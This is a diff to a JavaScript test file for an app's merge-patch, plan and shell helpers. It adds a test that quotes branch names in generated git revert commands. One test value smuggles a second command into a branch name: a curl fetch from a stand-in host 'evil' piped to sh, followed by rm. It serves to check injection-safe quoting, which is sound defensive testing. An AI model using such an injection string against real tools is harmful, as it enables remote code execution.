@@ -2,20 +2,13 @@ import assert from "node:assert/strict";
 import test from "node:test";
 const lib = "../../../../src/trueup/server/pages/static/lib";
 const { endOf, helpFor, restartedOf, stepsOf, turnsOf } = await import(`${lib}/plan.js`);
-const { mergePatch, same } = await import(`${lib}/mergepatch.js`);
+const { mergePatch, patched, same } = await import(`${lib}/mergepatch.js`);
 const { FORMS, joined, lineOf, manifestsOf, missingOf, startOf, valueAt, withValue } = await import(`${lib}/drafts.js`);
 const { inTurn, whyNot } = await import(`${lib}/bulk.js`);
+const { branchOf, revertCommands } = await import(`${lib}/shell.js`);
 
 const ref = (kind, name, group = "") => ({ group, kind, namespace: "shop", name });
 const planned = (kind, name, action, more = {}) => ({ ref: ref(kind, name, more.group), action, phase: "Sync", wave: 0, fields: [], ...more });
-
-/** RFC 7386, as a server does it. */
-function merged(before, patch) {
-  if (patch === null || typeof patch !== "object" || Array.isArray(patch)) return patch;
-  const after = before !== null && typeof before === "object" && !Array.isArray(before) ? { ...before } : {};
-  for (const [key, value] of Object.entries(patch)) value === null ? delete after[key] : (after[key] = merged(after[key], value));
-  return after;
-}
 
 test("a merge patch makes the one object of the other, and says nothing of what is the same", () => {
   let seed = 11;
@@ -23,7 +16,7 @@ test("a merge patch makes the one object of the other, and says nothing of what 
   const value = (depth) => (depth && random() < 0.6 ? Object.fromEntries(Array.from({ length: 3 }, () => ["abcd"[Math.floor(random() * 4)], value(depth - 1)])) : random() < 0.3 ? [1, { a: Math.floor(random() * 2) }] : Math.floor(random() * 3));
   for (let i = 0; i < 500; i += 1) {
     const [before, after] = [{ x: value(3) }, { x: value(3) }];
-    assert.deepEqual(merged(before, mergePatch(before, after)), after);
+    assert.deepEqual(patched(before, mergePatch(before, after)), after);
     assert.deepEqual(mergePatch(before, before), {});
   }
   assert.deepEqual(mergePatch({ data: { key: "++++" }, spec: { a: 1, b: 2 } }, { data: { key: "++++" }, spec: { a: 1 } }), { spec: { b: null } });
@@ -105,4 +98,12 @@ test("what cannot be done with an App is said, and the rest is done so many at a
   }, () => done.length >= 4);
   assert.equal(most, 2);
   assert.ok(done.length >= 4 && done.length <= 5);
+});
+
+test("a branch is one word of the command that people copy, whatever it is called", () => {
+  const [from, to] = ["3f2a91c4d0b8a1", "8b1f0e2d3c4b5a"];
+  const end = "git pull\ngit revert --no-edit 8b1f0e2d3c4b..3f2a91c4d0b8\ngit push";
+  assert.equal(revertCommands(from, to, branchOf("refs/heads/feature/x@sha1:3f2a", "")), `git switch feature/x\n${end}`);
+  assert.equal(revertCommands(from, to, branchOf("", "main;curl${IFS}evil|sh'\nrm")), `git switch 'main;curl\${IFS}evil|sh'\\''\nrm'\n${end}`);
+  for (const target of ["", "HEAD", "--orphan"]) assert.equal(revertCommands(from, to, branchOf("", target)), end);
 });
